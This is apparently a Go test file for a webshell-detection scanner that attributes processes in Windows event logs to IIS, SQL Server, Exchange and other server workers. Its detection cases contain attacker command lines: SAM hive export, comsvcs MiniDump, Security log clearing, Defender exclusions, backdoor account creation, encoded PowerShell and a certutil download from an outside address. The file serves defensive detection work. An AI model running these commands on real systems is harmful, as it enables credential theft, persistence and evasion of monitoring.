package scan_test

import (
	"reflect"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"

	"webshellscan/internal/evtxtest"
	"webshellscan/scan"
	"webshellscan/scan/finding"
	"webshellscan/scan/proctree"
)

const (
	sqlservr = `C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`
	services = `C:\Windows\System32\services.exe`
	system   = `NT AUTHORITY\SYSTEM`
)

// processWith returns the process of a result with a process ID.
func processWith(t *testing.T, res *scan.Result, pid uint32) proctree.Process {
	t.Helper()
	for p := range res.Forest.Processes(0) {
		if p.PID() == pid {
			return p
		}
	}
	t.Fatalf("no process %d", pid)
	return proctree.Process{}
}

// TestServerRoles: which server is the worker where one runs below another, and
// what its fields then are.
func TestServerRoles(t *testing.T) {
	database := run{100, 4, sqlservr, "sqlservr.exe -sMSSQLSERVER", system, 0x3e7, "System", services, ""}
	web := run{110, 4, w3wp, `w3wp.exe -ap "shop"`, shopUser, 0x9999, "High", services, ""}
	below := func(pid, parent uint32, image, parentImage string) run {
		return run{pid, parent, image, image, system, 0x3e7, "System", parentImage, ""}
	}
	for _, tt := range []struct {
		name    string
		runs    []run
		role    finding.ServerRole
		product []string
		image   []string
		depth   []string
	}{
		{"below a database", []run{database, below(200, 100, cmd, sqlservr)}, finding.ServerOther, []string{"SQL Server"}, nil, []string{"1"}},
		{"below a web server", []run{web, below(200, 110, cmd, w3wp)}, finding.ServerWeb, []string{"IIS"}, []string{w3wp}, []string{"1"}},
		{
			"a database below a web server",
			[]run{web, below(150, 110, sqlservr, w3wp), below(200, 150, cmd, sqlservr)},
			finding.ServerWeb,
			[]string{"IIS"},
			[]string{w3wp},
			[]string{"2"},
		},
		{
			"a web server below a database",
			[]run{database, below(150, 100, cmd, sqlservr), below(160, 150, w3wp, cmd), below(200, 160, cmd, w3wp)},
			finding.ServerWeb,
			[]string{"IIS"},
			[]string{w3wp},
			[]string{"1"},
		},
		{"below none", []run{below(200, 4, cmd, services)}, finding.ServerNone, nil, nil, nil},
	} {
		res := scanRuns(t, tt.runs...)
		p := processWith(t, res, 200)
		worker, role, _ := res.WorkerOf(p)
		if role != tt.role || worker.Exists() != (role != finding.ServerNone) {
			t.Errorf("%s: role %q, want %q", tt.name, role, tt.role)
		}
		wanted := map[string][]string{"WorkerProduct": tt.product, "WorkerImage": tt.image, "Depth": tt.depth, "WorkerRole": nil}
		if role != finding.ServerNone {
			wanted["WorkerRole"] = []string{string(role)}
		}
		for field, want := range wanted {
			if diff := gocmp.Diff(want, res.FieldValues(p, field)); diff != "" {
				t.Errorf("%s: %s (-want +got):\n%s", tt.name, field, diff)
			}
		}
	}
}

// TestWorkerProductNamesBoth: rules may ask for the server as well as for what
// runs in it.
func TestWorkerProductNamesBoth(t *testing.T) {
	res := scanRuns(
		t, run{100, 4, w3wp, `w3wp.exe -ap "MSExchangeOWAAppPool"`, system, 0x3e7, "System", services, ""},
		run{200, 100, cmd, "cmd /c whoami", system, 0x3e7, "System", w3wp, ""})
	if diff := gocmp.Diff([]string{"IIS", "Exchange OWA"}, res.FieldValues(processWith(t, res, 200), "WorkerProduct")); diff != "" {
		t.Error(diff)
	}
	if s := res.Sessions[0]; s.Product != "Exchange OWA" || s.ServerRole != finding.ServerWeb || s.Findings[0].Product != "Exchange OWA" {
		t.Errorf("%+v", s)
	}
}

// unnamed is a 4688 without the parent's name, as before Windows 10 and Server
// 2016: the creator's account is all that it says of it.
func unnamed(user, domain string, logon uint64, image string) evtxtest.Event {
	return evtxtest.NewEvent(fieldTime, "H", &evtxtest.ProcessCreated{
		Form: evtxtest.ProcessCreatedV1, NewProcessID: 300, NewProcessName: image, ProcessID: 200,
		Subject: evtxtest.Account{SID: evtxtest.MustSID("S-1-5-18"), Name: user, Domain: domain, LogonID: logon},
	})
}

// TestUnnamedServers: of a server that no record names its children's account
// tells what it is.
func TestUnnamedServers(t *testing.T) {
	for _, tt := range []struct {
		user, domain string
		logon        uint64
		image        string
		role         finding.ServerRole
		product      string
	}{
		{"shop", "IIS APPPOOL", 0x5555, cmd, finding.ServerWeb, "IIS"},
		{"shop", "IIS APPPOOL", 0x5555, w3wp, finding.ServerNone, ""},
		{"SAPServiceEPP", "CORP", 0x5555, cmd, finding.ServerWeb, "SAP NetWeaver"},
		{"arcgis", "CORP", 0x5555, cmd, finding.ServerWeb, "ArcGIS"},
		{"moveitsvc", "WEB", 0x5555, cmd, finding.ServerWeb, "MOVEit Transfer"},
		{"anna", "CORP", 0x5555, `C:\php\php-cgi.exe`, finding.ServerWeb, "PHP"},
		{"H$", "CORP", 0x3e4, cmd, finding.ServerUnknown, "unknown server, because its children run as an account of services"},
		{"H$", "CORP", 0x3e5, cmd, finding.ServerUnknown, "unknown server, because its children run as an account of services"},
		{"H$", "CORP", 0x3e4, `C:\Windows\System32\svchost.exe`, finding.ServerNone, ""},
		{"svc_sp", "CORP", 0x5555, cmd, finding.ServerUnknown, "unknown server, because its children run as an account that is named as one of a service"},
		{"SVC1$", "CORP", 0x3e7, cmd, finding.ServerNone, ""},
		{"H$", "CORP", 0x3e7, cmd, finding.ServerNone, ""},
		{"anna", "CORP", 0x5555, cmd, finding.ServerNone, ""},
	} {
		host := scanEvents(t, []evtxtest.Event{unnamed(tt.user, tt.domain, tt.logon, tt.image)})["H"]
		child := host.process[300]
		_, role, _ := host.res.WorkerOf(child)
		product := strings.Join(host.res.FieldValues(child, "WorkerProduct"), " ")
		if role != tt.role || product != tt.product {
			t.Errorf(`%s\%s starts %s: %q %q, want %q %q`, tt.domain, tt.user, tt.image, role, product, tt.role, tt.product)
		}
		if tt.product == "IIS" && (host.res.Sessions[0].Application != "shop" || host.res.Sessions[0].Findings[0].Session == "") {
			t.Errorf("%+v", host.res.Sessions[0])
		}
	}
}

// TestUnnamedService: what ran as SYSTEM and asks, by itself or by a shell,
// speaks for a service of which nothing is known, unless that starts what
// Windows starts.
func TestUnnamedService(t *testing.T) {
	const whoami, host, dropped = `C:\Windows\System32\whoami.exe`, `C:\Windows\System32\taskhost.exe`, `C:\Users\Public\x.exe`
	create := func(pid, parent, logon uint64, image string) evtxtest.Event {
		return evtxtest.NewEvent(fieldTime.Add(time.Duration(pid)*time.Millisecond), "H", &evtxtest.ProcessCreated{
			Form: evtxtest.ProcessCreatedV1, NewProcessID: pid, NewProcessName: image, ProcessID: parent,
			Subject: evtxtest.Account{SID: evtxtest.MustSID("S-1-5-18"), Name: "H$", Domain: "CORP", LogonID: logon},
		})
	}
	for _, tt := range []struct {
		name   string
		events []evtxtest.Event
		level  string // of the session, "" if there is none
	}{
		{"by a shell", []evtxtest.Event{create(300, 200, 0x3e7, cmd), create(304, 300, 0x3e7, whoami)}, "medium"},
		{"directly", []evtxtest.Event{create(300, 200, 0x3e7, whoami)}, "medium"},
		{"a dropped program", []evtxtest.Event{create(300, 200, 0x3e7, dropped)}, "critical"},
		{"only a shell", []evtxtest.Event{create(300, 200, 0x3e7, cmd)}, ""},
		{"a person", []evtxtest.Event{create(300, 200, 0x5555, cmd), create(304, 300, 0x5555, whoami)}, ""},
		{"the scheduler", []evtxtest.Event{create(300, 200, 0x3e7, cmd), create(304, 300, 0x3e7, whoami), create(308, 200, 0x3e7, host)}, ""},
		{"too deep", []evtxtest.Event{create(300, 200, 0x3e7, cmd), create(304, 300, 0x3e7, cmd), create(308, 304, 0x3e7, whoami)}, ""},
	} {
		res := scanEvents(t, tt.events)["H"].res
		got := ""
		if len(res.Sessions) > 0 {
			got = res.Sessions[0].Level.String()
			if s := res.Sessions[0]; s.ServerRole != finding.ServerOther || s.Worker.PID() != 200 {
				t.Errorf("%s: %+v", tt.name, s)
			}
		}
		if got != tt.level {
			t.Errorf("%s: %q, want %q", tt.name, got, tt.level)
		}
	}
}

// TestUnnamedManager: where nothing is named, a runtime that a service started
// goes before what started it, whatever account it runs as.
func TestUnnamedManager(t *testing.T) {
	const java = `C:\Program Files\Java\jdk-17\bin\java.exe`
	create := func(pid, parent uint64, image string, subject, target evtxtest.Account) evtxtest.Event {
		return evtxtest.NewEvent(fieldTime.Add(time.Duration(pid)*time.Millisecond), "H", &evtxtest.ProcessCreated{
			NewProcessID: pid, NewProcessName: image, ProcessID: parent, Subject: subject, Target: target,
		})
	}
	manager := evtxtest.Account{SID: evtxtest.MustSID("S-1-5-18"), Name: "H$", Domain: "CORP", LogonID: 0x3e7}
	service := evtxtest.Account{SID: evtxtest.MustSID("S-1-5-21-1-2-3-1104"), Name: "svc_shop", Domain: "CORP", LogonID: 0x5555}
	person := evtxtest.Account{SID: evtxtest.MustSID("S-1-5-21-1-2-3-1105"), Name: "anna", Domain: "CORP", LogonID: 0x6666}
	network := evtxtest.Account{SID: evtxtest.MustSID("S-1-5-20"), Name: "H$", Domain: "CORP", LogonID: 0x3e4}
	none := evtxtest.Account{}
	for _, tt := range []struct {
		image                 string
		starter, target, runs evtxtest.Account
		worker                uint32
	}{
		{java, manager, none, manager, 300},
		{java, person, none, person, 0},
		{`C:\perl\bin\perl.exe`, manager, none, manager, 0},
		{java, service, none, service, 300},
		{`C:\Python311\python.exe`, service, none, service, 200},
		{`D:\shop\shopd.exe`, manager, network, network, 300},
	} {
		host := scanEvents(t, []evtxtest.Event{create(300, 200, tt.image, tt.starter, tt.target), create(400, 300, cmd, tt.runs, none)})["H"]
		worker, _, _ := host.res.WorkerOf(host.process[400])
		if got := worker.Exists(); got != (tt.worker != 0) || got && worker.PID() != tt.worker {
			t.Errorf("started by %s: worker %v", tt.starter.Name, worker)
		}
	}
}

// TestUnknownServers: what behaves as a server, and what does not quite.
func TestUnknownServers(t *testing.T) {
	const app, java, svchost = `C:\Program Files\Acme\acme.exe`, `C:\Program Files\Java\jdk-17\bin\java.exe`, `C:\Windows\System32\svchost.exe`
	const acts = "its children do what intruders do and services do not"
	const compile = `csc.exe /noconfig @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1\x.cmdline"`
	for _, tt := range []struct {
		image, line, user, parent string
		logon                     uint64
		child                     string
		because                   string
	}{
		{app, "acme.exe --port=8080", system, services, 0x3e7, "cmd", "a service runs it with a port, an address or a web root"},
		{app, `acme.exe -c D:\data\htdocs`, system, `C:\tools\nssm.exe`, 0x3e7, "cmd", "a service runs it with a port, an address or a web root"},
		{`C:\Acme\WebServer\acme.exe`, "acme.exe", system, services, 0x3e7, "cmd", "a service runs it with a port, an address or a web root"},
		{app, "acme.exe --port=8080", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd", ""},
		{app, "acme.exe -q", system, services, 0x3e7, "cmd", ""},
		{svchost, "svchost.exe -k x --port=1", system, services, 0x3e7, "cmd", ""},
		{app, "acme.exe", `NT-AUTORITÄT\NETZWERKDIENST`, services, 0x3e4, "cmd", "it runs as NETWORK SERVICE, LOCAL SERVICE or a virtual account of services"},
		{app, "acme.exe", `NT SERVICE\acme`, services, 0x5555, "cmd", "it runs as NETWORK SERVICE, LOCAL SERVICE or a virtual account of services"},
		{svchost, "svchost.exe -k x", `NT AUTHORITY\NETWORK SERVICE`, services, 0x3e4, "cmd", ""},
		{app, "acme.exe", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, compile, "it has ASP.NET pages compiled"},
		{`C:\Windows\Microsoft.NET\aspnet_compiler.exe`, "aspnet_compiler.exe", `CORP\anna`, cmd, 0x5555, compile, ""},
		{java, "", `CORP\anna`, cmd, 0x5555, "cmd", "the log has no command line that says what this runtime runs"},
		{java, "", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd", ""},
		{`C:\TeamCity\buildAgent\jre\bin\java.exe`, "", system, services, 0x3e7, "cmd", ""},
		{java, `java -jar C:\agents\inventory.jar`, system, services, 0x3e7, "cmd", ""},
		{`D:\batch\bin\prunsrv.exe`, "prunsrv.exe //RS//NightlyBatch", system, services, 0x3e7, "cmd", ""},
		{`D:\shop\bin\shopd.exe`, "shopd.exe //RS//Shop", system, services, 0x3e7, "cmd", "it is a Java service of Commons Daemon under a name of its own"},
		{java, `java -jar D:\shop\shop.jar --http-port 9100`, `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd", "its command line has a port or an address to listen on"},
		{`C:\Program Files\nodejs\node.exe`, "node tool.js --host 0.0.0.0", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd", "its command line has a port or an address to listen on"},
		{`C:\Program Files\nodejs\node.exe`, "node client.js --port 5432", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd", ""},
		{java, "java -agentlib:jdwp=transport=dt_socket,server=y,address=0.0.0.0:5005 Main", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd", ""},
		{`D:\Apps\TicketDesk\TicketWeb.exe`, "TicketWeb.exe -service", system, services, 0x3e7, "cmd", "it runs as a service and its name says that it serves"},
		{`D:\Apps\Shop.Api.Host.exe`, "Shop.Api.Host.exe", system, services, 0x3e7, "cmd", "it runs as a service and its name says that it serves"},
		{`D:\Apps\TicketDesk\TicketWeb.exe`, "TicketWeb.exe", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd", ""},
		{`C:\Program Files\NVIDIA Corporation\NVIDIA Web Helper.exe`, "x", system, services, 0x3e7, "cmd", ""},
		{`C:\Program Files\Acme\WebHelperService.exe`, "x", system, services, 0x3e7, "cmd", ""},
		{app, "acme.exe", system, services, 0x3e7, "cmd.exe /c whoami", ""},
		{app, "acme.exe", system, services, 0x3e7, "cmd.exe /c whoami /priv", acts},
		{app, "acme.exe", system, services, 0x3e7, "cmd.exe /c whoami & systeminfo", acts},
		{app, "acme.exe", `CORP\anna`, cmd, 0x5555, "cmd.exe /c whoami /all", ""},
		{app, "acme.exe", `CORP\backup`, services, 0x5555, "cmd.exe /c net user x P@ss /add", acts},
		{app, "acme.exe", system, `C:\tools\nssm.exe`, 0x3e7, "cmd.exe /c powershell -enc SQBFAFgAIAAoAGkAdwByACAA", acts},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c powershell -EncodedCommand JABQAHIAbwBnAHIAZQBzAHMA`, ""},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c net accounts`, ""},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c powershell Add-MpPreference -ExclusionPath C:\`, acts},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c powershell Add-MpPreference -ExclusionPath 'C:\Users\Public'`, acts},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c powershell Add-MpPreference -ExclusionPath "C:\Program Files\Acme"`, ""},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c reg save HKLM\SAM D:\s`, acts},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c reg save HKLM\SOFTWARE\Acme D:\acme.hiv`, ""},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 600 D:\d full`, acts},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c wevtutil cl Security`, acts},
		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c certutil -addstore Root D:\ca.cer`, ""},
		{app, "acme.exe", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd.exe /c whoami", ""},
		{`C:\Program Files\OpenSSH\sshd.exe`, "sshd.exe", system, services, 0x3e7, "cmd.exe /c whoami /all", ""},
		{`C:\Windows\CCM\CcmExec.exe`, "CcmExec.exe", system, services, 0x3e7, "cmd.exe /c whoami /all", ""},
		{java, "java -jar tool.jar", `CORP\anna`, cmd, 0x5555, "cmd.exe /c whoami /all", acts},
		{java, "java -jar agent.jar", system, services, 0x3e7, "cmd.exe /c whoami /all", ""},
		{java, `java -jar C:\Users\anna\Downloads\a.jar`, `CORP\anna`, cmd, 0x5555, "cmd.exe /c whoami /all", ""},
		{`C:\Python311\python.exe`, "python job.py", `CORP\anna`, cmd, 0x5555, "cmd.exe /c whoami /all", ""},
		{`C:\Python311\python.exe`, "python job.py", `CORP\anna`, cmd, 0x5555, `cmd.exe /c certutil -urlcache -f http://203.0.113.9/a a`, acts},
		{`C:\Program Files\nodejs\node.exe`, "node npm-cli.js install", `CORP\anna`, cmd, 0x5555, `cmd.exe /c certutil -urlcache -f http://203.0.113.9/a a`, ""},
	} {
		res := scanRuns(
			t, run{100, 4, tt.image, tt.line, tt.user, tt.logon, "High", tt.parent, ""},
			run{200, 100, cmd, tt.child, tt.user, tt.logon, "High", tt.image, ""})
		want := ""
		if tt.because != "" {
			want = "unknown server, because " + tt.because
		}
		if got := strings.Join(res.FieldValues(processWith(t, res, 200), "WorkerProduct"), " "); got != want {
			t.Errorf("%s %s, %s, below %s: %q, want %q", tt.image, tt.line, tt.user, tt.parent, got, want)
		}
	}
}

// TestPrintSpooler: it is a server where it starts what printing does not need.
func TestPrintSpooler(t *testing.T) {
	const spoolsv = `C:\Windows\System32\spoolsv.exe`
	for child, want := range map[string]string{
		"cmd.exe /c net user x P@ss /add":           "Print spooler",
		"cmd.exe /c whoami":                         "Print spooler",
		`cmd.exe /c gs.exe C:\Windows\Temp\1.spl`:   "",
		`cmd.exe /c "C:\Program Files\Red\job.bat"`: "",
		"cmd.exe /c net start lpdsvc":               "",
	} {
		res := scanRuns(
			t, run{100, 4, spoolsv, spoolsv, system, 0x3e7, "System", services, ""},
			run{200, 100, cmd, child, system, 0x3e7, "System", spoolsv, ""})
		if got := strings.Join(res.FieldValues(processWith(t, res, 200), "WorkerProduct"), " "); got != want {
			t.Errorf("%s: %q, want %q", child, got, want)
		}
	}
}

// TestSupervisor: what only starts servers is not the worker, unless nothing
// stands between.
func TestSupervisor(t *testing.T) {
	const umservice, umworker = `C:\Exchange\Bin\UMService.exe`, `C:\Exchange\Bin\UMWorkerProcess.exe`
	res := scanRuns(
		t, run{100, 4, umservice, "UMService.exe", system, 0x3e7, "System", services, ""},
		run{110, 100, umworker, "UMWorkerProcess.exe", system, 0x3e7, "System", umservice, ""},
		run{200, 110, cmd, "cmd", system, 0x3e7, "System", umworker, ""},
		run{210, 100, cmd, "cmd", system, 0x3e7, "System", umservice, ""})
	for pid, want := range map[uint32]uint32{200: 110, 210: 100} {
		if worker, _, _ := res.WorkerOf(processWith(t, res, pid)); !worker.Exists() || worker.PID() != want {
			t.Errorf("worker of %d: %v", pid, worker)
		}
	}
}

// TestServerWithoutImage: a server whose own record does not name it is found
// by the name that its children give it, as it is where there is no record.
func TestServerWithoutImage(t *testing.T) {
	const dropped, rundll = `C:\Users\Public\a.exe`, `C:\Windows\System32\rundll32.exe`
	below := []run{
		{200, 100, dropped, "a.exe", shopUser, 0x9999, "High", w3wp, ""},
		{300, 200, rundll, "rundll32 x.dll,y", shopUser, 0x9999, "High", dropped, ""},
	}
	for _, image := range []string{"-", "?", "", "NULL", "<unknown process>"} {
		worker := run{100, 4, image, "-", shopUser, 0x9999, "High", services, ""}
		for _, runs := range [][]run{below, append([]run{worker}, below...)} {
			res := scanRuns(t, runs...)
			if len(res.Sessions) != 1 || len(res.Findings) != 2 || res.Sessions[0].Product != "IIS" || res.Findings[0].WorkerImage != w3wp {
				t.Errorf("%q, %d processes: sessions %v, %d findings", image, len(runs), res.Sessions, len(res.Findings))
			}
		}
	}
}

// TestUnknownIsEmpty: what stands for a value that is not known is no text of
// any field of a finding.
func TestUnknownIsEmpty(t *testing.T) {
	for _, unknown := range []string{"-", "?", "NULL", "<unknown process>"} {
		events := []evtxtest.Source{
			&evtxtest.SysmonProcessCreate{ProcessID: 100, ParentProcessID: 4, Image: w3wp, CommandLine: unknown, User: unknown, ParentImage: services},
			&evtxtest.SysmonProcessCreate{
				ProcessID: 200, ParentProcessID: 100, Image: cmd, CommandLine: unknown, User: unknown, IntegrityLevel: unknown, Hashes: unknown,
				CurrentDirectory: unknown, OriginalFileName: unknown, ParentImage: unknown, ParentCommandLine: unknown,
			},
		}
		res := mustScan(t, scan.Options{Paths: []string{webLog(t, events...)}})
		if len(res.Findings) != 1 || res.Findings[0].WorkerImage != w3wp {
			t.Fatalf("%q: %d findings", unknown, len(res.Findings))
		}
		value := reflect.ValueOf(*res.Findings[0])
		for i := range value.NumField() {
			if v := value.Field(i); v.Kind() == reflect.String && v.String() == unknown {
				t.Errorf("%s is %q", value.Type().Field(i).Name, unknown)
			}
		}
	}
}

// TestServerByPool: what an application pool's identity started has an IIS
// worker above it also where a log names another parent; a server that it names
// goes before a worker of which nothing but the pool is known.
func TestServerByPool(t *testing.T) {
	for _, tt := range []struct {
		parent, sid string
		link        proctree.Link
		product     string
		worker      uint32
	}{
		{cmd, "", proctree.LinkAccount, "IIS", 0},
		{cmd, "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415", proctree.LinkAccount, "IIS", 0},
		{"", "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415", proctree.LinkAccount, "IIS", 200},
		{`C:\php\php-cgi.exe`, "", proctree.LinkStub, "PHP", 200},
		{w3wp, "", proctree.LinkStub, "IIS", 200},
	} {
		event := &evtxtest.ProcessCreated{
			NewProcessID: 300, NewProcessName: `C:\Windows\System32\whoami.exe`, ProcessID: 200, ParentProcessName: tt.parent,
			Subject: evtxtest.Account{SID: evtxtest.MustSID("S-1-5-21-1-2-3-4"), Name: "shop", Domain: "IIS APPPOOL", LogonID: 0x5555},
		}
		if tt.sid != "" {
			event.Subject = evtxtest.Account{SID: evtxtest.MustSID(tt.sid), Name: "-", Domain: "-", LogonID: 0x5555}
		}
		host := scanEvents(t, []evtxtest.Event{evtxtest.NewEvent(fieldTime, "H", event)})["H"]
		if len(host.res.Findings) != 1 {
			t.Fatalf("%s: %d findings", tt.parent, len(host.res.Findings))
		}
		f := host.res.Findings[0]
		if f.Link != tt.link || f.Product != tt.product || !f.Worker.Exists() || f.Worker.PID() != tt.worker {
			t.Errorf("%s %s: %s, %s, worker %d; want %s, %s, %d", tt.parent, tt.sid, f.Link, f.Product, f.Worker.PID(), tt.link, tt.product, tt.worker)
		}
	}
}
